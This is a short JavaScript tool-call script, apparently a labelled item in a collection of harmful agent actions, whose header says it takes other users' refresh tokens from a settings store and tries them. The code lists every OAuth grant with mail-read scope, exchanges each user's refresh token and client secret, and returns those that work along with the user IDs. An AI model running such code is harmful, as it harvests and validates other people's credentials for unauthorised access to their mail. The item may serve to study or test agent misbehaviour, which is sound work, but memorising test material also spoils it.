/*---
domain = "mail"
why = "Takes refresh tokens of others out of a settings store and tries them."
---*/
const grants = await callTool("oauth_list_grants", { scope: "mail.read" });
const usable = [];
for (const { userId, refreshToken, clientSecret } of grants) {
  try {
    await callTool("oauth_exchange", { refreshToken, clientSecret });
    usable.push({ userId, refreshToken });
  } catch {
    continue;
  }
}
return usable;
